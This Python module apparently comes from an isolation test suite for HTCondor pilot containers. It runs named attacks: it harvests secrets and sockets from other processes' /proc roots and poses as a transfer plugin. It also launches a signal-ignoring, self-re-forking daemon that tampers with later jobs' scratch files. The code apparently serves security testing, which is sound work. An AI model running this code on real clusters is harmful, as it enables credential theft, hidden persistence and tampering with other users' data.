"""Makes the attacks that it is told to: as a job, or as a user's transfer plugin in the pilot container."""

import json
import os
import re
import signal
import socket
import sys
from contextlib import suppress
from pathlib import Path

from . import AGAINST_NEIGHBOURS, ATTACKS, htcondor
from .tools import MARK, SECRET, files_in, has_secret, processes, text, tries, written


def through_sessions() -> list[str]:
    """HTCondor runs a session's sshd in the pilot container as the job's user: through its eyes there is no secret."""
    gained, seen = [], 0
    for pid in processes():
        root = f"/proc/{pid}/root"
        seen += text(pid, "comm").startswith("sshd")
        with suppress(OSError):  # where payload-init is in a Landlock domain, not even this can be read
            if os.readlink(f"/proc/{pid}/ns/mnt") == os.readlink("/proc/self/ns/mnt"):
                continue
            for folder in ("run", "etc", "var/lib/condor", "var/log", "root", "k8spilot", "tmp", "var/run/secrets"):
                found = [path for path in files_in(f"{root}/{folder}") if has_secret(path)]
                # The session's own key is the job's.
                gained += [path for path in found if os.environ["_CONDOR_SCRATCH_DIR"] not in path]
            for way in ("run/k8spilot/docker.sock", "run/k8spilot/htcondor-docker.sock", "k8spilot/payload.sock"):
                with suppress(OSError), socket.socket(socket.AF_UNIX) as one:
                    one.connect(f"{root}/{way}")
                    gained.append(way)
            with suppress(OSError):
                if SECRET.search(Path(f"/proc/{pid}/environ").read_bytes()):
                    gained.append(f"environment of {pid}")
            places = ("k8spilot", "k8spilot/bin", "run/k8spilot", "etc", "var/lib/condor/execute", "var/lib/condor")
            gained += tries(*((f"a file in {place}", written, f"{root}/{place}/evil", "x") for place in places))
    return gained if seen else ["no session was seen, so that this shows nothing"]


def be_plugin() -> None:
    """HTCondor runs a user's transfer plugin in the pilot container, as the jobs' account (file transfer plugins)."""
    if "-classad" in sys.argv:
        print('MultipleFileSupport = true\nPluginVersion = "1"\nPluginType = "FileTransfer"')
        print('SupportedMethods = "evil"')
        return
    wanted = Path(sys.argv[sys.argv.index("-infile") + 1]).read_text()
    url, target = (re.findall(rf'{name} = "([^"]*)"', wanted)[0] for name in ("Url", "LocalFileName"))
    os.environ.setdefault("_CONDOR_SCRATCH_DIR", os.getcwd())
    if "-upload" not in sys.argv:
        gained = {name: ATTACKS[name]() for name in url.split("/")[-2].split("+")}
        Path(target).write_text(json.dumps({"gained": gained, "names": sorted(os.environ), "uid": os.getuid()}))
    for folder, inside, _ in os.walk("/"):
        with suppress(OSError):
            Path(folder, MARK).write_text(MARK)
        if folder == "/":
            inside[:] = [name for name in inside if name not in ("proc", "sys")]
    if os.fork() == 0:
        _lie_in_wait()
    facts = {"TransferFileName": Path(target).name, "TransferUrl": url, "TransferProtocol": "evil"}
    words = " ".join(f'{name} = "{value}";' for name, value in facts.items())
    answer = f"[ {words} TransferSuccess = true; TransferFileBytes = 1 ]"
    Path(sys.argv[sys.argv.index("-outfile") + 1]).write_text(answer)


SPY = """
import os, sys, time
own, mark = sys.argv[1:]
top = '/var/lib/condor/execute/slot'
while True:
    for folder in (f'{top}/{name}/scratch' for name in os.listdir(top)):
        try:
            names = [] if folder == own else os.listdir(folder)
            for name in ['data', mark] if 'data' in names else []:
                open(f'{folder}/{name}', 'a').write(mark)
        except OSError:
            pass
    time.sleep(0.0005)
    if os.fork():  # whoever looks for it finds that it has gone
        os._exit(0)
"""


def _lie_in_wait() -> None:
    """Be a daemon that waits for the next job's files, which have the same owner: to read and change them."""
    os.setsid()
    for end in range(3):
        os.dup2(os.open("/dev/null", os.O_RDWR), end)
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    own = os.environ["_CONDOR_SCRATCH_DIR"]
    if os.fork() == 0:
        os.execve("/usr/bin/python3", [MARK, "-c", SPY, own, MARK], {})
    os._exit(0)


def main() -> None:
    """Make the attacks that are named."""
    if "-classad" in sys.argv or "-infile" in sys.argv:
        be_plugin()
        return
    alone = (
        through_sessions, htcondor.words_in_the_logs, htcondor.sessions_without_end, htcondor.a_session_without_a_word,
        htcondor.a_session_of_four_gigabytes, htcondor.silence_for_htcondors_daemons,
        htcondor.half_a_word_for_htcondors_daemons,
    )  # fmt: skip
    by_name = {**ATTACKS, **AGAINST_NEIGHBOURS, **{one.__name__: one for one in alone}}
    gained = {}
    for name in sys.argv[1:]:
        try:
            gained[name] = by_name[name]()
        except Exception as error:  # noqa: BLE001
            gained[name] = [f"could not be tried: {type(error).__name__}: {error}"]
    print(json.dumps(gained))
